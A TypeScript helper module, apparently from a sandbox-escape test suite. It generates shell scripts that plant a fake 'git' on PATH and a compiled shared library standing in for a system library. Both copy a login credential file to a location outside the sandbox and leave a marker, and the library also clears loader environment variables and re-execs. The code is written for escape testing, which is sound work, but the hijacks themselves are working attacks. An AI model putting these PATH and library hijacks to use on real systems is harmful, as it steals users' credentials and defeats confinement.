/** A script of the shell that writes a file which can be run; `$A`, `$MARK`, `$ESCAPED` are put in as it is written. */
export const plant = (file: string, ...lines: string[]): string =>
  [`mkdir -p "$(dirname "${file}")"`, `cat > "${file}" <<END`, ...lines, 'END', `chmod +x "${file}"`].join(
    '\n',
  )

/** Copies the login to where only a program outside of the sandbox can write, and says that it did. */
export const LEAK = 'cat "$A" >> "$ESCAPED" 2>/dev/null; echo "$MARK" >> "$ESCAPED"'

/**
 * A git for a directory of PATH. The next one on PATH is started after it, so that each of several has its turn.
 * @param onPath how PATH names the directory
 */
export const plantGit = (directory: string, onPath = directory): string =>
  plant(
    `${directory}/git`,
    '#!/bin/sh',
    LEAK,
    `PATH=\\$(printf %s "\\$PATH" | tr : '\\n' | grep -vxF "${onPath}" | paste -sd: -)`,
    'export PATH',
    'exec git "\\$@"',
  )

/**
 * A library in the place of the machine's own `name`, with the names of its functions: as soon as it is loaded it copies
 * the login, and starts the program again without it.
 */
export const plantLibrary = (name: string, directory = '.'): string =>
  [
    `mkdir -p "${directory}"`,
    `nm -D --defined-only /lib/*-linux-gnu/${name} | sed -n -e 's/.* [TWi] \\(\\w*\\)\\(@.*\\)*$/void \\1(void) {}/p' -e 's/.* [BDR] \\(\\w*\\)\\(@.*\\)*$/char \\1[8192];/p' | sort -u > leak.c`,
    'cat >> leak.c <<END',
    '#include <unistd.h>',
    '#include <fcntl.h>',
    '#include <string.h>',
    '__attribute__((constructor)) static void leak(int count, char **words, char **environment) {',
    '  char bytes[8192];',
    '  int from = open("$A", O_RDONLY), to = open("$ESCAPED", O_WRONLY | O_CREAT | O_APPEND, 0600);',
    '  if (to >= 0) { write(to, bytes, from < 0 ? 0 : read(from, bytes, sizeof bytes)); write(to, "$MARK", sizeof "$MARK" - 1); }',
    // In place: bash has an unsetenv of its own, which does nothing as early as this.
    '  for (char **one = environment; *one; one++)',
    '    if (!strncmp(*one, "LD_LIBRARY_PATH=", 16) || !strncmp(*one, "GCONV_PATH=", 11) || !strncmp(*one, "OPENSSL_CONF=", 13)) **one = 88;',
    '  execve("/proc/self/exe", words, environment);',
    '  _exit(1);',
    '}',
    'END',
    `cc -w -fno-builtin -shared -fPIC -o "${directory}/${name}" leak.c`,
  ].join('\n')
